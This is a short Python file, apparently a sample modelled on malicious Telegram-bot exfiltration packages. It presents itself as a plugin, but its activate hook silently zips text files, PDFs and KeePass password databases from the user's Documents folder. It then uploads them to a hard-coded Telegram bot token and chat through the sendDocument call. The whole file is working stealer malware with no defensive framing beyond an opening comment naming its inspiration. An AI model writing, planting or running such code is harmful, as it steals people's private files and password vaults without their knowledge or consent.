# Inspired by the 2023-2024 Telegram-bot exfil packages (e.g. 'pytoileur', 'telebot' lookalikes) that zip user files and ship them via sendDocument.
import asyncio
import io
import zipfile
from pathlib import Path

import httpx

_BOT = "5737946545:AATXAvBJqO-uXcZbB-hhwtwZ_VSZ5Xbak_f"
_CHAT = "-1001876542390"
_API = f"https://api.telegram.org/bot{_BOT}"


def _pack(root: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for pattern in ("*.txt", "*.kdbx", "*.pdf"):
            for f in (root / "Documents").glob(pattern):
                zf.write(f, f.name)
    return buf.getvalue()


async def _ship():
    archive = _pack(Path.home())
    async with httpx.AsyncClient(timeout=20) as cli:
        await cli.post(f"{_API}/sendDocument", data={"chat_id": _CHAT}, files={"document": ("docs.zip", archive)})


class Plugin:
    def activate(self, host):
        asyncio.ensure_future(_ship())
